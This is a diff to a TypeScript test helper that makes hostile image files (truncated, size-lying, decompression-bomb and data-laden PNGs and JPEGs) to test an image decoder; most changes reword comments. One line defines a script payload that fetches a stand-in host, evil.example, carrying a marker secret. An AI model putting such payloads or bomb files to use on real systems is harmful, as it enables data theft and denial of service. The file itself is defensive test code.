@@ -3,10 +3,13 @@ import { crc32, deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
 import { cardPicture } from './make-pictures.ts'
 
-/** Stands in everything that must not come out again. */
+/** A mark in hostile files. The mark must not appear in any output. */
 export const SECRET = 'HOSTILE-MARK-7f3a19c4'
 
-/** What must come of a file: refused with a code, or accepted as nothing but its picture; "either" where the decoder may do one or the other. */
+/**
+ * The expected outcome of a file: refused with a code, or accepted as nothing but its picture. "either" where the
+ * decoder may do one or the other.
+ */
 export type Fate = '915' | '930' | '931' | 'clean' | 'either'
 
 export interface HostileFile {
@@ -20,7 +23,7 @@ export interface HostileFile {
 const text = (content: string): Buffer => Buffer.from(content, 'latin1')
 const SCRIPT = `<script>fetch('//evil.example/${SECRET}')</script>`
 
-/** Files of every other kind, whatever their names say: none of them is looked into. */
+/** Files of other types under any name; the decoder must not open them. */
 function foreignFiles(): HostileFile[] {
   const kinds: readonly (readonly [string, Buffer])[] = [
     ['an empty file', Buffer.alloc(0)],
@@ -93,7 +96,7 @@ function foreignFiles(): HostileFile[] {
 
 const PNG_HEAD = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
 
-/** Bytes without sense, the same in every run. */
+/** Meaningless bytes, equal in every run. */
 function createNoise(length: number): Buffer {
   const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, at) =>
     createHash('sha256').update(`noise ${at}`).digest(),
@@ -109,7 +112,7 @@ function chunk(kind: string, data: Buffer): Buffer {
   return Buffer.concat([length, named, sum])
 }
 
-// Node 20 has it since 20.15 only; the types do not know it yet.
+// Node 20 has `crc32` since 20.15, but its types do not.
 const crcOf = crc32 as unknown as (bytes: Buffer) => number
 
 interface PngPlan {
@@ -120,7 +123,7 @@ interface PngPlan {
   readonly before?: readonly Buffer[]
 }
 
-/** A PNG in shades of grey, put together by hand. */
+/** A grey PNG built by hand. */
 function pngOf({
   width,
   height,
@@ -141,7 +144,7 @@ function pngOf({
   ])
 }
 
-/** A segment put into a JPEG after its first two bytes. */
+/** Inserts a segment into a JPEG after its first two bytes. */
 function withSegment(jpeg: Buffer, marker: number, data: Buffer, times = 1): Buffer {
   const head = Buffer.alloc(4)
   head.writeUInt16BE(0xff00 + marker, 0)
@@ -150,7 +153,7 @@ function withSegment(jpeg: Buffer, marker: number, data: Buffer, times = 1): Buf
   return Buffer.concat([jpeg.subarray(0, 2), ...Array.from({ length: times }, () => segment), jpeg.subarray(2)])
 }
 
-/** The height and width a JPEG's frame says it has. */
+/** Changes the height and width in the frame header of a JPEG. */
 function withFrameSize(jpeg: Buffer, width: number, height: number): Buffer {
   const bytes = Buffer.from(jpeg)
   for (let at = 2; at < bytes.length - 8;) {
@@ -165,14 +168,14 @@ function withFrameSize(jpeg: Buffer, width: number, height: number): Buffer {
   throw new Error('a JPEG without a frame')
 }
 
-/** The last scan of a progressive JPEG over and over: little to send, much to decode. */
+/** Repeats the last scan of a progressive JPEG, which is little to send and much to decode. */
 function withManyScans(jpeg: Buffer, times: number): Buffer {
   const start = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]))
   const scan = jpeg.subarray(start, -2)
   return Buffer.concat([jpeg.subarray(0, -2), ...Array.from({ length: times }, () => scan), jpeg.subarray(-2)])
 }
 
-/** Pictures of the three kinds that end too early, lie about their size, or unfold into far more than they were. */
+/** Pictures of the three formats that end early, state a wrong size, or expand to a huge size. */
 async function brokenFiles(): Promise<HostileFile[]> {
   const jpeg = await cardPicture().jpeg().toBuffer()
   const progressive = await cardPicture().jpeg({ progressive: true }).toBuffer()
@@ -266,7 +269,7 @@ async function brokenFiles(): Promise<HostileFile[]> {
   ]
 }
 
-/** Good pictures that carry something else, or say too much. */
+/** Valid pictures with foreign data or with metadata. */
 async function ladenFiles(): Promise<HostileFile[]> {
   const jpeg = await cardPicture().jpeg().toBuffer()
   const png = await cardPicture().png().toBuffer()
